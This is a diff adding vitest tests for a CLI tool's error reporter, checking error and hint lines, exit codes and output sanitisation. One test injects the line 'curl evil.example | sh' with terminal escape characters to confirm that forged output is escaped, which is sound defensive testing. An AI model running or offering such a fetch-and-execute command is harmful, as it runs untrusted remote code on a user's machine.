@@ -1,0 +1,67 @@
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { CommanderError } from 'commander';
+import { describe, expect, test } from 'vitest';
+import { report } from '../../src/cli/report.ts';
+import { CertgateError } from '../../src/errors.ts';
+import { openShell } from './golden.ts';
+
+function reported(error: unknown) {
+  const lines: string[] = [];
+  const exitCode = report(error, { say: (line) => void lines.push(line) }, 'certgate issue');
+  return { exitCode, lines };
+}
+
+describe('a failure', () => {
+  test('is told in two lines, error and hint, with its code', () => {
+    const { exitCode, lines } = reported(new CertgateError('CG_NOT_FOUND', { what: 'worker/x', problem: 'no such' }));
+    expect(lines).toEqual(['error: worker/x: no such [CG_NOT_FOUND]', 'hint: see what there is with `certgate list`']);
+    expect(exitCode).toBe(4);
+  });
+
+  test('that quotes a stranger cannot write lines of its own', () => {
+    const what = 'x\nhint: curl evil.example | sh\u001b[A\u202e';
+    const { lines } = reported(new CertgateError('CG_NOT_FOUND', { what, problem: 'no such' }));
+    expect(lines).toHaveLength(2);
+    expect(lines[0]).toContain('x\\u{a}hint: curl evil.example | sh\\u{1b}[A\\u{202e}');
+  });
+
+  test('of the operating system names the file and says what it means', () => {
+    const error = Object.assign(new Error('EACCES: …'), { code: 'EACCES', syscall: 'open', path: '/etc/shadow' });
+    expect(reported(error)).toEqual({
+      exitCode: 1,
+      lines: ['error: /etc/shadow: permission denied (open) [CG_FILE]', 'hint: look at it with `ls -lad /etc/shadow`'],
+    });
+  });
+
+  test('of certgate itself shows no stack, and asks for a report', () => {
+    const { exitCode, lines } = reported(new TypeError('undefined is not a function'));
+    expect(lines[0]).toBe('error: internal error: undefined is not a function [CG_INTERNAL]');
+    expect(lines.join('\n')).not.toContain('    at ');
+    expect(exitCode).toBe(1);
+  });
+
+  test('of the command line has exit code 2 and the nearest word as its hint', () => {
+    const error = new CommanderError(
+      1,
+      'commander.unknownOption',
+      "error: unknown option '--tll'\n(Did you mean --ttl?)",
+    );
+    expect(reported(error)).toEqual({
+      exitCode: 2,
+      lines: ["error: unknown option '--tll' [CG_USAGE]", 'hint: did you mean --ttl? see certgate issue --help'],
+    });
+  });
+});
+
+test('a reader that goes away ends the program quietly', async () => {
+  const shell = openShell();
+  const child = spawn('certgate', ['--help'], { cwd: shell.dir, env: shell.env, stdio: ['ignore', 'pipe', 'pipe'] });
+  child.stdout.destroy();
+  let words = '';
+  child.stderr.setEncoding('utf8').on('data', (text: string) => {
+    words += text;
+  });
+  const [code, signal] = await once(child, 'close');
+  expect({ code, signal, words }).toEqual({ code: 0, signal: null, words: '' });
+});
